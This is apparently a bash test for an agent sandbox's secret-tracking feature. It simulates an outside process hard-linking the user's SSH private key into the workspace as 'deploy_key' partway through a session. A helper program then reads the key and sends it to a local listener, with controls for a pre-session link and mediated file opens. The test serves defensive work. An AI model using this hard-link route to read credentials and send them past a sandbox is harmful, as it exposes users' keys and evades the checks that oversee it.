#!/bin/bash
# During the session an outside process hard-links the user's SSH key (outside every
# readable tree, so never marked at discovery) into the workspace under an ordinary
# name (`deploy_key`). The agent waits for it and reads it.
# Control 1: the same link made *before* the session (cover_path marks it).
# Control 2: the same mid-session link with mediated opens.
set -u; . "$(dirname "$0")/../common.sh"
D=$R4/outside-hardlink-during-session; W=$D/ws H=$D/home; rm -rf $W $H; mkdir -p $W $H/.ssh
gcc -O1 -I$R4 -o $W/waitread $R4/waitread.c
echo "SECRET-SSH-KEY-hl-4242" > $H/.ssh/id_ed25519; chmod 600 $H/.ssh/id_ed25519
listen 127.0.0.1 $D/out.txt
echo "== control 1: linked before the session"
ln $H/.ssh/id_ed25519 $W/deploy_key
run $H $W ./waitread 127.0.0.1 deploy_key; rm -f $W/deploy_key
echo "== attack: linked by an outside process 2 s into the session (kernel-decided opens)"
( sleep 2; ln $H/.ssh/id_ed25519 $W/deploy_key ) & CPID=$!
run $H $W ./waitread 127.0.0.1 deploy_key; wait $CPID; rm -f $W/deploy_key
verdict $D/out.txt SECRET-SSH
listen 127.0.0.1 $D/out-mediated.txt
echo "== control 2: the same, mediated opens"
( sleep 2; ln $H/.ssh/id_ed25519 $W/deploy_key ) & CPID=$!
runmed $H $W ./waitread 127.0.0.1 deploy_key; wait $CPID; rm -f $W/deploy_key
verdict $D/out-mediated.txt SECRET-SSH
